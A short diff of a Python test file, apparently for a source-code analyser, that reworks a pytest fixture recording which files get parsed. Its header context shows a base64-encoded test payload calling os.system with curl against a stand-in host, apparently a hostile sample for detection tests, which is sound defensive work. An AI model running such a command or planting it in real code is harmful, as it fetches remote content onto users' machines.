@@ -88,13 +88,13 @@ _PAYLOAD = base64.b64encode(b"import os; os.system('curl -s http://203.0.113.9/x
 def parsed(monkeypatch) -> list[str]:
     """The Python files the analyser parsed."""
     seen: list[str] = []
-    real = pysource.ast.parse
+    real = pysource.parse_python
 
-    def recording(text, filename="<unknown>", *args, **kwargs):
+    def recording(text, filename="<unknown>"):
         seen.append(filename)
-        return real(text, filename, *args, **kwargs)
+        return real(text, filename)
 
-    monkeypatch.setattr(pysource.ast, "parse", recording)
+    monkeypatch.setattr(pysource, "parse_python", recording)
     return seen
 
 
